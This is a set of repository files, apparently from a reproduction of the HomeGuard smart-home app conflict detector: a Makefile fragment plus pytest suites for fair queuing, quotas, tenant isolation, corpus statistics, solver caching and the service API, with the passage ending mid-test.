		tests/test_service_equivalence.py tests/test_monitor.py
	PYTHONHASHSEED=0 $(PYTHON) -m pytest -q \
		tests/test_dispatch_equivalence.py \
		tests/test_service_equivalence.py tests/test_monitor.py

# Fault-injection chaos battery (DESIGN.md §15): injected worker
# crashes, hung solves, killed processes and backend I/O errors must
# leave audit results byte-identical to a fault-free run.  Runs under
# two fixed hash seeds (fault-plan triggers are seed-deterministic;
# set/dict order must not leak into recovery either), appending every
# injected event to fault_events.ci.jsonl (uploaded as a CI artifact).
test-faults:
	PYTHONHASHSEED=0 FAULT_EVENT_LOG=fault_events.ci.jsonl \
		$(PYTHON) -m pytest -q tests/test_fault_tolerance.py
	PYTHONHASHSEED=1 FAULT_EVENT_LOG=fault_events.ci.jsonl \
		$(PYTHON) -m pytest -q tests/test_fault_tolerance.py

# Wire-schema stability: every service request/response dataclass must
# JSON-round-trip and match the committed schema_manifest.json — a
# field change without a WIRE_SCHEMA_VERSION bump fails here.  After a
# deliberate, version-bumped change regenerate the manifest with
# `python -m repro.service.schemas --write-manifest`.
schema-check:
	$(PYTHON) -W ignore::RuntimeWarning -m repro.service.schemas
	$(PYTHON) -m pytest -q tests/test_service_schemas.py

# Full benchmark sweep (paper figures/tables + store-scale audit).
bench:
	$(PYTHON) -m pytest -q benchmarks/bench_*.py

# Quick benchmark smoke for CI: small store sizes plus a tiny worker
# sweep (<= 200 apps, serial/2/4 workers) so plan/execute-path
# regressions fail fast without the full 5k-app script run.  The
# regression gate fails the run when the cold 200-app audit is >25%
# slower than the committed BENCH_store_scale.json baseline, and the
# run's own numbers land in BENCH_store_scale.ci.json (uploaded as a
# workflow artifact by CI).
bench-smoke:
	BENCH_STORE_SIZES=30,200 BENCH_WORKER_COUNTS=1,2,4 \
	BENCH_REGRESSION_GATE=1 BENCH_EMIT_PATH=BENCH_store_scale.ci.json \
	BENCH_FLEET_EMIT_PATH=BENCH_fleet_cache.ci.json \
	BENCH_STORE_EMIT_PATH=BENCH_store_engine.ci.json \
	BENCH_MONITOR_EMIT_PATH=BENCH_monitor.ci.json \
		$(PYTHON) -m pytest -q benchmarks/bench_*.py

# Full fleet-cache sweep (DESIGN.md §12): 6 tenants with overlapping
# corpora over one shared solve cache; rewrites the committed
# BENCH_fleet_cache.json trajectory point.
bench-fleet:
	$(PYTHON) benchmarks/bench_fleet_cache.py

# Full storage-engine sweep (DESIGN.md §14): a 10k-home fleet database
# gating delta-commit cost at < 1% of a full-store rewrite, plus a
# 384-home churn bounded at 256 resident homes across the delta/dir,
# delta/sqlite and eager arms; rewrites the committed
# BENCH_store_engine.json trajectory point.
bench-store:
	$(PYTHON) benchmarks/bench_store_engine.py

# Runtime-monitor streaming sweep (DESIGN.md §16): 100k synthetic
# events across 200 single-process homes, gating sustained ingest at
# >= 50k events/sec with p95 batch latency reported; rewrites the
# committed BENCH_monitor.json trajectory point.
bench-monitor:
	$(PYTHON) benchmarks/bench_monitor.py

# Transport smoke for CI (DESIGN.md §13): the conformance + fuzz +
# fairness batteries against a live loopback server, then a mini load
# run (60 tenants) whose numbers land in BENCH_service_load.ci.json
# (uploaded as a workflow artifact).  The full 200-tenant sweep that
# rewrites the committed BENCH_service_load.json is
# `python benchmarks/bench_service_load.py`.
serve-smoke:
	$(PYTHON) -m pytest -q tests/test_transport_conformance.py \
		tests/test_transport_fuzz.py tests/test_transport_fairness.py
	BENCH_SERVICE_TENANTS=60 BENCH_SERVICE_REQUESTS=2 \
	BENCH_SERVICE_EMIT_PATH=BENCH_service_load.ci.json \
		$(PYTHON) -m pytest -q benchmarks/bench_service_load.py

# Docs smoke: run the example scripts the README points at, end to
# end, so the quickstart instructions can't rot.  store_audit also
# asserts the warm-start replay does zero solver calls (DESIGN.md §8);
# install_flow drives the HomeGuardService wire API (sessions,
# decisions, policies, JSON round-trip) through the messaging path.
docs-check:
	$(PYTHON) examples/quickstart.py > /dev/null
	$(PYTHON) examples/store_audit.py > /dev/null
	$(PYTHON) examples/install_flow.py > /dev/null
	$(PYTHON) examples/serve_fleet.py > /dev/null
	$(PYTHON) examples/monitor_live.py > /dev/null
	@echo "docs-check: README example scripts ran clean"

# Byte-compile everything as a cheap syntax/import lint (no external
# linters baked into the image).
lint:
	$(PYTHON) -m compileall -q src tests benchmarks examples
	$(PYTHON) -c "import repro, repro.detector, repro.frontend, repro.runtime"
