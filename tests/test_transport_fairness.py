"""Transport fairness battery (DESIGN.md §13).

The claims under test: admitted work reaches the shared solver
dispatcher in *weighted-fair* order, not arrival order, so a flooding
tenant cannot starve a light one; quota accounting is exact; and
tenant boundaries (custom-app privacy) hold across the socket exactly
as they do in-process.
"""

import asyncio
import threading

import pytest

from repro.service.errors import (
    QuotaExceededError,
    UnknownAppError,
)
from repro.service.schemas import AuditRequest, InstallRequest
from repro.service.service import HomeGuardService
from repro.service.transport import (
    AsyncFleetClient,
    FleetClient,
    TenantQuota,
    WeightedFairQueue,
    serve_background,
)


def app_source(name: str, extra: str = "") -> str:
    return f'''
definition(name: "{name}", namespace: "t", author: "t")
preferences {{
    section("sw") {{ input "sw", "capability.switch" }}
}}
def installed() {{ subscribe(sw, "switch.on", h) }}
def h(evt) {{ sw.off() }}
{extra}
'''


# ----------------------------------------------------------------------
# Weighted-fair queue unit behavior


def test_flooded_queue_serves_a_late_light_tenant_almost_immediately():
    queue = WeightedFairQueue()
    for index in range(100):
        queue.push("flood", 1.0, f"flood{index}")
    # Drain a few, then a light tenant shows up.
    for _ in range(10):
        queue.pop()
    queue.push("light", 1.0, "light0")
    # The light job's tag lands just past virtual now: it runs after at
    # most one more of the flood's 90 queued jobs.
    popped = [queue.pop()[1] for _ in range(3)]
    assert "light0" in popped[:2]


def test_weights_buy_proportional_service():
    queue = WeightedFairQueue()
    for index in range(6):
        queue.push("gold", 2.0, f"gold{index}")
    for index in range(6):
        queue.push("standard", 1.0, f"standard{index}")
    first_nine = [queue.pop()[0] for _ in range(9)]
    # Weight 2.0 wins twice the pops while both queues are backlogged.
    assert first_nine.count("gold") == 6
    assert first_nine.count("standard") == 3


def test_equal_weights_degrade_to_round_robin():
    queue = WeightedFairQueue()
    for index in range(4):
        queue.push("a", 1.0, f"a{index}")
        queue.push("b", 1.0, f"b{index}")
    order = [queue.pop()[0] for _ in range(8)]
    assert order == ["a", "b"] * 4


def test_idle_queue_forgets_virtual_history():
    queue = WeightedFairQueue()
    for index in range(50):
        queue.push("busy", 1.0, index)
    while queue.pop() is not None:
        pass
    # A fresh burst after idleness starts from a clean slate: the
    # formerly-busy tenant is not owed (or charged) old virtual time.
    queue.push("busy", 1.0, "new")
    queue.push("other", 1.0, "fresh")
    first = queue.pop()
    assert first[0] == "busy"  # equal tags, arrival order breaks tie
    assert queue.pop()[0] == "other"


# ----------------------------------------------------------------------
# Live-server fairness under skewed load


def test_flooding_tenant_cannot_starve_a_light_one():
    access_records = []
    lock = threading.Lock()

    def on_access(record):
        with lock:
            access_records.append(record)

    service = HomeGuardService(workers=None)
    with serve_background(
        service,
        own_service=True,
        on_access=on_access,
        quota=TenantQuota(rate=1000.0, burst=10_000, max_inflight=64),
    ) as live:
        with FleetClient(live.host, live.port) as setup:
            setup.create_home("heavy")
            setup.create_home("light")

        flood_size = 20

        async def scenario():
            floods = [
                AsyncFleetClient(live.host, live.port)
                for _ in range(flood_size)
            ]
            tasks = [
                asyncio.ensure_future(client.call("install", InstallRequest(
                    home_id="heavy",
                    app_name=f"flood-app-{index}",
                    source=app_source(f"Flood App {index}"),
                    devices={"sw": "switch"},
                ).to_json()))
                for index, client in enumerate(floods)
            ]
            # Wait until the flood has genuinely queued up.
            async with AsyncFleetClient(live.host, live.port) as probe:
                backlog = 0
                for _ in range(1000):
                    result, _ = await probe.call("status")
                    backlog = result["requests_inflight"]
                    if backlog >= 10:
                        break
                    await asyncio.sleep(0.005)
                assert backlog >= 10, "flood never built a backlog"
                # Now the light tenant asks for one small thing.
                async with AsyncFleetClient(
                    live.host, live.port
                ) as light:
                    result, error = await light.call(
                        "installed_apps", {"home_id": "light"}
                    )
                    assert error is None
                    assert result == {"apps": []}
            results = await asyncio.gather(*tasks)
            for client in floods:
                await client.close()
            return results

        results = asyncio.run(scenario())
        assert all(error is None for _, error in results)

    work_records = [
        record for record in access_records
        if record["method"] in ("install", "installed_apps")
    ]
    light_position = next(
        index for index, record in enumerate(work_records)
        if record["tenant"] == "light"
    )
    floods_after_light = sum(
        1 for record in work_records[light_position + 1:]
        if record["tenant"] == "heavy"
    )
    # Weighted-fair ordering: the light request overtook most of the
    # queued flood instead of waiting behind all of it.
    assert floods_after_light >= 5, (
        f"light tenant waited behind the flood "
        f"(only {floods_after_light} flood installs completed after it)"
    )


# ----------------------------------------------------------------------
# Exact quota accounting


def test_quota_accounting_is_exact_with_a_non_refilling_bucket():
    service = HomeGuardService(workers=None)
    burst = 5
    total = 12
    with serve_background(
        service,
        own_service=True,
        quota=TenantQuota(rate=0.0, burst=burst, max_inflight=8),
    ) as live:
        with FleetClient(live.host, live.port) as client:
            outcomes = []
            for _ in range(total):
                try:
                    client.call("sessions", {"home_id": "metered"})
                    outcomes.append("ok")
                except QuotaExceededError as error:
                    assert error.details["tenant"] == "metered"
                    outcomes.append("rejected")
            # rate=0 never refills: exactly `burst` requests pass, in
            # order, and every later one is rejected.
            assert outcomes == ["ok"] * burst + ["rejected"] * (
                total - burst
            )
            record = client.status()  # unmetered: status is inline
            assert record.quota_rejections == total - burst
            tenant = record.tenants["metered"]
            assert tenant["requests"] == total
            assert tenant["completed"] == burst
            assert tenant["quota_rejections"] == total - burst
            # Another tenant's bucket is untouched.
            client.call("sessions", {"home_id": "fresh-tenant"})


def test_admission_accounting_is_consistent_under_concurrency():
    service = HomeGuardService(workers=None)
    with serve_background(
        service,
        own_service=True,
        quota=TenantQuota(rate=0.0, burst=1000, max_inflight=2),
    ) as live:
        total = 10

        async def scenario():
            clients = [
                AsyncFleetClient(live.host, live.port)
                for _ in range(total)
            ]
            results = await asyncio.gather(*(
                client.call("sessions", {"home_id": "crowded"})
                for client in clients
            ))
            for client in clients:
                await client.close()
            return results

        results = asyncio.run(scenario())
        succeeded = sum(1 for _, error in results if error is None)
        rejected = sum(
            1 for _, error in results
            if error is not None and error.code == "unavailable"
        )
        assert succeeded + rejected == total
        assert succeeded >= 1
        with FleetClient(live.host, live.port) as client:
            record = client.status()
            assert record.admission_rejections == rejected
            assert record.requests_inflight == 0  # all released
            # Once the burst drains, the tenant is admitted again.
            client.call("sessions", {"home_id": "crowded"})


# ----------------------------------------------------------------------
# Tenant isolation across the socket


def test_custom_apps_stay_private_across_the_socket():
    service = HomeGuardService(workers=None)
    with serve_background(service, own_service=True) as live:
        with FleetClient(live.host, live.port) as alice, \
                FleetClient(live.host, live.port) as bob:
            alice.create_home("alice")
            bob.create_home("bob")
            session = alice.install(InstallRequest(
                home_id="alice", app_name="alice-private",
                source=app_source("Alice Private"),
                devices={"sw": "switch"},
            ))
            assert session.home_id == "alice"
            # Bob cannot install Alice's custom app by name...
            with pytest.raises(UnknownAppError):
                bob.install(InstallRequest(
                    home_id="bob", app_name="alice-private",
                    devices={"sw": "switch"},
                ))
            # ...cannot see it installed...
            assert bob.installed_apps("bob") == []
            # ...cannot audit it into view (audits skip apps that are
            # not installed in *this* home — same as in-process)...
            assert bob.audit(AuditRequest(
                home_id="bob", apps=("alice-private",)
            )) == []
            # ...and cannot read Alice's sessions by home id.
            assert bob.sessions("bob") == []
            assert len(alice.sessions("alice")) == 1
