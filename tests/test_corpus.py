"""Corpus population structure and extraction coverage (paper §VIII-B)."""

import pytest

from repro.corpus import (
    all_apps,
    app_by_name,
    automation_apps,
    demo_apps,
    device_controlling_apps,
    malicious_apps,
    notification_apps,
    webservice_apps,
)
from repro.corpus.malicious import HANDLED_ATTACKS, UNHANDLED_ATTACKS
from repro.rules import extract_rules
from repro.rules.extractor import RuleExtractor


def test_population_matches_paper():
    # §VIII-B: 182 repository apps = 146 automation + 36 web services;
    # 90 of the automation apps control devices, 56 only notify.
    assert len(automation_apps()) == 146
    assert len(webservice_apps()) == 36
    assert len(device_controlling_apps()) == 90
    assert len(notification_apps()) == 56
    assert len(malicious_apps()) == 18
    assert len(demo_apps()) == 5


def test_app_names_unique():
    names = [app.name for app in all_apps()]
    assert len(names) == len(set(names))


def test_app_lookup():
    assert app_by_name("LetThereBeDark").category == "switch"
    with pytest.raises(KeyError):
        app_by_name("NoSuchApp")


def test_paper_named_apps_present():
    for name in [
        "SwitchChangesMode", "MakeItSo", "CurlingIron", "NFCTagToggle",
        "LockItWhenILeave", "LetThereBeDark", "UndeadEarlyWarning",
        "LightsOffWhenClosed", "SmartNightlight", "TurnItOnFor5Minutes",
        "ItsTooHot", "EnergySaver", "LightUpTheNight", "FeedMyPet",
        "SleepyTime", "CameraPowerScheduler",
    ]:
        assert app_by_name(name).kind == "automation"


def test_every_automation_app_extracts():
    extractor = RuleExtractor()
    for app in automation_apps():
        ruleset = extractor.extract(app.source, app.name)
        assert len(ruleset) >= 1, f"{app.name} produced no rules"


def test_device_apps_have_device_rules():
    extractor = RuleExtractor()
    device_subjects = 0
    for app in device_controlling_apps():
        ruleset = extractor.extract(app.source, app.name)
        if any(rule.action.device is not None or
               rule.action.subject == "location"
               for rule in ruleset.rules):
            device_subjects += 1
    assert device_subjects == 90


def test_notification_apps_control_no_devices():
    extractor = RuleExtractor()
    for app in notification_apps():
        ruleset = extractor.extract(app.source, app.name)
        for rule in ruleset.rules:
            assert rule.action.device is None, (
                f"{app.name} unexpectedly controls {rule.action.subject}"
            )


def test_webservice_apps_define_no_automation():
    extractor = RuleExtractor()
    for app in webservice_apps():
        ruleset = extractor.extract(app.source, app.name)
        # Web endpoints are not subscriptions; at most install-time sinks.
        assert all(
            rule.trigger.subject == "install" for rule in ruleset.rules
        ), app.name


def test_malicious_extraction_matches_table3():
    # Table III: 8 attack classes handled, endpoint/app-update not.
    extractor = RuleExtractor()
    for app in malicious_apps():
        ruleset = extractor.extract(app.source, app.name)
        has_rules = len(ruleset) > 0
        if app.attack == "Endpoint Attack":
            assert not has_rules, app.name
        else:
            assert has_rules, app.name


def test_attack_class_partition():
    attacks = {app.attack for app in malicious_apps()}
    assert attacks == HANDLED_ATTACKS | UNHANDLED_ATTACKS
    assert not HANDLED_ATTACKS & UNHANDLED_ATTACKS


def test_categories_cover_fig8_buckets():
    categories = {app.category for app in device_controlling_apps()}
    assert categories == {"switch", "mode", "other"}
    switch_count = sum(
        1 for app in device_controlling_apps() if app.category == "switch"
    )
    assert switch_count >= 30  # switch-controlling apps dominate (Fig. 8)


def test_type_hints_reference_known_device_types():
    from repro.capabilities import DEVICE_TYPES

    for app in all_apps():
        for type_name in app.type_hints.values():
            assert type_name in DEVICE_TYPES, (app.name, type_name)


def test_demo_apps_reproduce_rules_1_to_5():
    expected = {
        "ComfortTV": ("tv1", "window1", "on"),
        "ColdDefender": ("tv2", "window2", "off"),
        "CatchLiveShow": ("voice", "tv3", "on"),
        "BurglarFinder": ("lamp1", "alarm1", "both"),
        "NightCare": ("lamp2", "lamp2", "off"),
    }
    for app in demo_apps():
        ruleset = extract_rules(app.source, app.name)
        trigger_subject, action_subject, command = expected[app.name]
        rule = ruleset.rules[0]
        assert rule.trigger.subject == trigger_subject
        assert rule.action.subject == action_subject
        assert rule.action.command == command


def test_nightcare_delay_is_300s():
    ruleset = extract_rules(app_by_name("NightCare").source, "NightCare")
    assert ruleset.rules[0].action.when == 300.0


def test_burglarfinder_check_delay_is_600s():
    ruleset = extract_rules(app_by_name("BurglarFinder").source, "BurglarFinder")
    assert ruleset.rules[0].action.when == 600.0
