"""Solver-result reuse accounting (paper Fig. 9) and pipeline
incrementality.

The engine must solve at most one situation overlap and one effect
constraint per pair direction: AR's situation result serves CT/SD/LT,
and DC classification reuses EC's effect solve.  The incremental
pipeline must never re-solve pairs among already-installed apps when a
new app arrives.
"""

from repro.constraints import TypeBasedResolver
from repro.detector import DetectionEngine, DetectionPipeline, ThreatType
from repro.rules import extract_rules

LIGHTS_ON_DARK = '''
input "lux1", "capability.illuminanceMeasurement"
input "lights1", "capability.switch"
def installed() { subscribe(lux1, "illuminance", h) }
def h(evt) {
    if (evt.value.toInteger() < 30) lights1.on()
}
'''

LIGHTS_OFF_BRIGHT = '''
input "lux2", "capability.illuminanceMeasurement"
input "lights2", "capability.switch"
def installed() { subscribe(lux2, "illuminance", h) }
def h(evt) {
    if (evt.value.toInteger() > 50) lights2.off()
}
'''

LAMP_GUARD = '''
input "lamp1", "capability.switch"
input "motion1", "capability.motionSensor"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", h) }
def h(evt) {
    if (lamp1.currentSwitch == "on") alarm1.both()
}
'''

LAMP_OFF = '''
input "lamp2", "capability.switch"
def installed() { subscribe(lamp2, "switch.on", h) }
def h(evt) { runIn(300, off1) }
def off1() { lamp2.off() }
'''

VALVE_APP = '''
input "leak1", "capability.waterSensor"
input "valve1", "capability.valve"
def installed() { subscribe(leak1, "water.wet", h) }
def h(evt) { valve1.close() }
'''

LOCK_APP = '''
input "p1", "capability.presenceSensor"
input "lock1", "capability.lock"
def installed() { subscribe(p1, "presence.not present", h) }
def h(evt) { lock1.lock() }
'''

UNLOCK_APP = '''
input "p2", "capability.presenceSensor"
input "lock2", "capability.lock"
def installed() { subscribe(p2, "presence.present", h) }
def h(evt) { lock2.unlock() }
'''

HINTS = {
    "DarkOn": {"lux1": "illuminanceSensor", "lights1": "light"},
    "BrightOff": {"lux2": "illuminanceSensor", "lights2": "light"},
    "Guard": {"lamp1": "floorLamp", "motion1": "motionSensor",
              "alarm1": "siren"},
    "Saver": {"lamp2": "floorLamp"},
    "Plumber": {"leak1": "waterLeakSensor", "valve1": "waterValve"},
    "Locker": {"p1": "presenceSensor", "lock1": "doorLock"},
    "Greeter": {"p2": "presenceSensor", "lock2": "doorLock"},
}


def _engine():
    return DetectionEngine(TypeBasedResolver(type_hints=HINTS))


def _ruleset(source, app):
    return extract_rules(source, app)


def test_ar_situation_solve_serves_ct_sd_lt():
    # The loop pair triggers every trigger-interference class; all of
    # CT (both ways), SD and LT must ride on AR's single situation solve.
    engine = _engine()
    r1 = _ruleset(LIGHTS_ON_DARK, "DarkOn").rules[0]
    r2 = _ruleset(LIGHTS_OFF_BRIGHT, "BrightOff").rules[0]
    threats = engine.detect_pair(r1, r2)
    found = {t.type for t in threats}
    assert {
        ThreatType.ACTUATOR_RACE,
        ThreatType.COVERT_TRIGGERING,
        ThreatType.SELF_DISABLING,
        ThreatType.LOOP_TRIGGERING,
    } <= found
    assert engine.stats.solver_calls == 1  # AR's situation solve only
    assert engine.stats.cache_hits >= 2   # both CT directions reused it


def test_dc_reuses_ec_effect_solve():
    engine = _engine()
    r_off = _ruleset(LAMP_OFF, "Saver").rules[0]
    r_guard = _ruleset(LAMP_GUARD, "Guard").rules[0]
    threats = engine.detect_pair(r_off, r_guard)
    assert any(t.type is ThreatType.DISABLING_CONDITION for t in threats)
    effect_calls = engine.stats.solver_calls
    hits_before = engine.stats.cache_hits
    # Re-detect: the DC classification must come from the cached EC-side
    # effect solve, with no new solver work.
    engine.detect_pair(r_off, r_guard)
    assert engine.stats.solver_calls == effect_calls
    assert engine.stats.cache_hits > hits_before


def test_reset_stats_keeps_caches():
    engine = _engine()
    r1 = _ruleset(LIGHTS_ON_DARK, "DarkOn").rules[0]
    r2 = _ruleset(LIGHTS_OFF_BRIGHT, "BrightOff").rules[0]
    engine.detect_pair(r1, r2)
    assert engine.stats.solver_calls == 1
    engine.reset_stats()
    assert engine.stats.solver_calls == 0
    assert engine.stats.pairs_examined == 0
    engine.detect_pair(r1, r2)
    # Only cache hits after the reset: the solve caches survived.
    assert engine.stats.solver_calls == 0
    assert engine.stats.cache_hits > 0


def test_invalidate_app_drops_cached_solves():
    engine = _engine()
    r1 = _ruleset(LIGHTS_ON_DARK, "DarkOn").rules[0]
    r2 = _ruleset(LIGHTS_OFF_BRIGHT, "BrightOff").rules[0]
    engine.detect_pair(r1, r2)
    engine.invalidate_app("DarkOn")
    engine.reset_stats()
    engine.detect_pair(r1, r2)
    assert engine.stats.solver_calls == 1  # re-solved after invalidation


def test_pipeline_incremental_no_resolve_of_installed_pairs():
    pipeline = DetectionPipeline(TypeBasedResolver(type_hints=HINTS))
    pipeline.add_ruleset(_ruleset(LIGHTS_ON_DARK, "DarkOn"))
    pipeline.add_ruleset(_ruleset(LIGHTS_OFF_BRIGHT, "BrightOff"))
    calls_after_two = pipeline.stats.solver_calls
    pairs_after_two = pipeline.stats.pairs_examined
    assert calls_after_two == 1  # the DarkOn/BrightOff situation solve

    # A third app with no overlap: no pair may be (re-)examined at all.
    pipeline.add_ruleset(_ruleset(VALVE_APP, "Plumber"))
    assert pipeline.stats.solver_calls == calls_after_two
    assert pipeline.stats.pairs_examined == pairs_after_two

    # Two lock apps interacting only with each other: installing them
    # examines exactly their own pair — never the DarkOn/BrightOff pair
    # (the four candidate-free pairs against the installed apps are
    # skipped too; brute force would have scanned seven pairs).
    pipeline.add_ruleset(_ruleset(LOCK_APP, "Locker"))
    pipeline.add_ruleset(_ruleset(UNLOCK_APP, "Greeter"))
    delta_pairs = pipeline.stats.pairs_examined - pairs_after_two
    assert delta_pairs == 1  # just Locker vs Greeter
    assert pipeline.stats.solver_calls > calls_after_two


def test_pipeline_detect_does_not_install():
    pipeline = DetectionPipeline(TypeBasedResolver(type_hints=HINTS))
    pipeline.add_ruleset(_ruleset(LIGHTS_ON_DARK, "DarkOn"))
    report = pipeline.detect(_ruleset(LIGHTS_OFF_BRIGHT, "BrightOff"))
    assert report.threats
    assert pipeline.installed_apps() == ["DarkOn"]
    pipeline.discard("BrightOff")
    # Staged rules were dropped; committing without a ruleset is a no-op.
    pipeline.commit("BrightOff")
    assert pipeline.installed_apps() == ["DarkOn"]
