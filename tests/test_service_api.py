"""HomeGuardService behavior: multi-tenant sessions, the ServiceError
taxonomy, pluggable handling policies, persistence provenance, and
lifecycle (close idempotency — incl. after a failed restore)."""

import pytest

from repro.corpus import app_by_name
from repro.detector.types import ThreatType
from repro.frontend.app import HomeGuardApp
from repro.rules.extractor import RuleExtractor
from repro.service import (
    AuditRequest,
    AutoDenyPolicy,
    ChainedPolicy,
    DecisionRequest,
    DuplicateHomeError,
    HomeGuardService,
    InstallDecision,
    InstallRequest,
    InteractivePolicy,
    SessionDecidedError,
    SeverityThresholdPolicy,
    UnknownAppError,
    UnknownHomeError,
    UnknownSessionError,
)

COMFORT_TV = dict(
    app_name="ComfortTV",
    devices={"tv1": "TV", "tSensor": "Temp", "window1": "Window"},
    values={"threshold1": 30},
)
COLD_DEFENDER = dict(
    app_name="ColdDefender",
    devices={"tv2": "TV", "window2": "Window"},
    values={"weather": "rainy"},
)


def fresh_service(**kwargs):
    kwargs.setdefault("workers", None)
    service = HomeGuardService(**kwargs)
    service.preload([app_by_name("ComfortTV"), app_by_name("ColdDefender")])
    return service


def make_home(service, home_id, policy=None, store_path=None):
    service.create_home(home_id, policy=policy, store_path=store_path)
    service.register_device(home_id, "TV", "tv")
    service.register_device(home_id, "Temp", "temperatureSensor")
    service.register_device(home_id, "Window", "windowOpener")
    return home_id


def test_interactive_session_lifecycle():
    service = fresh_service()
    make_home(service, "h1")
    session = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    assert session.pending and session.decision is None
    assert session.report.clean
    assert service.installed_apps("h1") == []  # nothing until the decision
    decided = service.decide(
        DecisionRequest(home_id="h1", session_id=session.session_id,
                        decision="keep")
    )
    assert decided.status == "decided" and decided.decision == "keep"
    assert decided.decided_by is None  # a user decision, not a policy's
    assert service.installed_apps("h1") == ["ComfortTV"]

    second = service.install(InstallRequest(home_id="h1", **COLD_DEFENDER))
    assert any(t.type == "AR" for t in second.report.threats)
    assert second.report.threats[0].description  # human-readable text rides along
    service.decide(
        DecisionRequest(home_id="h1", session_id=second.session_id,
                        decision="delete")
    )
    assert service.installed_apps("h1") == ["ComfortTV"]
    assert [s.session_id for s in service.sessions("h1")] == [
        session.session_id, second.session_id,
    ]


def test_one_time_decisions_cannot_be_replayed():
    service = fresh_service()
    make_home(service, "h1")
    session = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    service.decide(
        DecisionRequest(home_id="h1", session_id=session.session_id,
                        decision="keep")
    )
    with pytest.raises(SessionDecidedError):
        service.decide(
            DecisionRequest(home_id="h1", session_id=session.session_id,
                            decision="delete")
        )


def test_error_taxonomy_on_bad_requests():
    service = fresh_service()
    make_home(service, "h1")
    with pytest.raises(UnknownHomeError):
        service.install(InstallRequest(home_id="h9", app_name="ComfortTV"))
    with pytest.raises(UnknownAppError):
        service.install(InstallRequest(home_id="h1", app_name="Ghost"))
    with pytest.raises(UnknownSessionError):
        service.decide(DecisionRequest(home_id="h1", session_id="h1/s9",
                                       decision="keep"))
    with pytest.raises(DuplicateHomeError):
        service.create_home("h1")
    # A session id from another home does not leak across tenants.
    make_home(service, "h2")
    session = service.install(InstallRequest(home_id="h1", **COMFORT_TV))
    with pytest.raises(UnknownSessionError):
        service.decide(DecisionRequest(home_id="h2",
                                       session_id=session.session_id,
                                       decision="keep"))


def test_install_with_custom_source():
    service = HomeGuardService(workers=None)
    service.create_home("h1")
    source = '''
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { l1.on() }
'''
    session = service.install(
        InstallRequest(home_id="h1", app_name="Custom", source=source,
                       devices={"c1": "contactSensor", "l1": "switch"})
    )
    assert session.report.rules
    service.decide(DecisionRequest(home_id="h1",
                                   session_id=session.session_id,
                                   decision="keep"))
    assert service.installed_apps("h1") == ["Custom"]


CUSTOM_SOURCE = '''
input "c1", "capability.contactSensor"
input "l1", "capability.switch"
def installed() { subscribe(c1, "contact.open", h) }
def h(evt) { l1.on() }
'''


def test_custom_source_name_collisions_are_rejected():
    """The shared backend is keyed by app name across tenants: a
    different source under a taken name must fail loudly instead of
    silently reviewing against someone else's rules."""
    from repro.service import InvalidRequestError

    service = fresh_service()
    service.create_home("a")
    service.create_home("b")
    first = service.install(InstallRequest(
        home_id="a", app_name="Monitor", source=CUSTOM_SOURCE,
        devices={"c1": "contactSensor", "l1": "switch"},
    ))
    assert first.report.rules
    # Same name, different app: rejected for any tenant (incl. the
    # submitting one), nothing recorded.
    hijack = CUSTOM_SOURCE.replace("l1.on()", "l1.off()")
    for home_id in ("b", "a"):
        with pytest.raises(InvalidRequestError, match="unique name"):
            service.install(InstallRequest(
                home_id=home_id, app_name="Monitor", source=hijack,
                devices={"c1": "contactSensor", "l1": "switch"},
            ))
    # A store app's name is taken too.
    with pytest.raises(InvalidRequestError, match="unique name"):
        service.install(InstallRequest(
            home_id="b", app_name="ComfortTV", source=hijack,
        ))
    # Resubmitting the identical source is fine — that's a reinstall
    # (possessing the source demonstrates knowledge of the app).
    again = service.install(InstallRequest(
        home_id="b", app_name="Monitor", source=CUSTOM_SOURCE,
        devices={"c1": "contactSensor", "l1": "switch"},
    ))
    assert again.report.rules == first.report.rules
    # ...and the resubmitting home joins the owners: its later
    # no-source requests (reconfigures) resolve like the original
    # submitter's do.
    for home_id in ("b", "a"):
        renamed = service.install(InstallRequest(
            home_id=home_id, app_name="Monitor",
            devices={"c1": "contactSensor", "l1": "switch"},
        ))
        assert renamed.report.rules == first.report.rules


def test_custom_apps_are_private_to_the_submitting_home():
    """Naming another tenant's custom app *without* its source must
    look exactly like a nonexistent app — no rules leak, no existence
    leak — while the owner and public store apps resolve normally."""
    from repro.config.uri import ConfigPayload, encode_uri
    from repro.config.messaging import FcmHttpTransport

    service = fresh_service()
    service.create_home("a")
    service.create_home("b")
    service.install(InstallRequest(
        home_id="a", app_name="SecretApp", source=CUSTOM_SOURCE,
        devices={"c1": "contactSensor", "l1": "switch"},
    ))
    # Tenant B, no source: same error as a nonexistent app.
    with pytest.raises(UnknownAppError):
        service.install(InstallRequest(home_id="b", app_name="SecretApp"))
    # The transport intake path is guarded too (and wraps the raw
    # LookupError of a never-extracted app into the taxonomy).  A bad
    # payload after a good one still reports the sessions that were
    # opened before it blew up.
    transport = FcmHttpTransport()
    service.connect_transport("b", transport)
    service.register_device("b", "TV", "tv")
    service.register_device("b", "Temp", "temperatureSensor")
    service.register_device("b", "Window", "windowOpener")
    bound, types = service.home("b").bind_inputs(COMFORT_TV["devices"])
    transport.send(encode_uri(ConfigPayload(
        app_name="ComfortTV", devices=bound, values={"threshold1": "30"},
    )), None)
    transport.send(encode_uri(ConfigPayload(app_name="SecretApp")), None)
    with pytest.raises(UnknownAppError) as excinfo:
        service.review_pending("b", device_types=types)
    opened = excinfo.value.details["opened_sessions"]
    assert len(opened) == 1
    assert service.session(opened[0]).app_name == "ComfortTV"
    transport.send(encode_uri(ConfigPayload(app_name="NeverExtracted")), None)
    with pytest.raises(UnknownAppError):
        service.review_pending("b")
    # The owner keeps using its app by name; public apps stay public.
    owner = service.install(InstallRequest(home_id="a", app_name="SecretApp"))
    assert owner.report.rules
    public = service.install(InstallRequest(
        home_id="b", app_name="ComfortTV",
        devices={"tv1": "tv", "tSensor": "temperatureSensor",
                 "window1": "windowOpener"},
        values={"threshold1": 30},
    ))
    assert public.report.app_name == "ComfortTV"


def test_decided_sessions_are_evicted_beyond_the_retention_bound():
    service = fresh_service(policy=AutoDenyPolicy())
    service.max_decided_sessions = 3
    make_home(service, "h1")
    ids = []
    for i in range(5):
        # Alternate the two demo apps so every install really runs.
        spec = COMFORT_TV if i % 2 == 0 else COLD_DEFENDER
        ids.append(service.install(
            InstallRequest(home_id="h1", **spec)
        ).session_id)
    assert [s.session_id for s in service.sessions("h1")] == ids[-3:]
    with pytest.raises(UnknownSessionError):
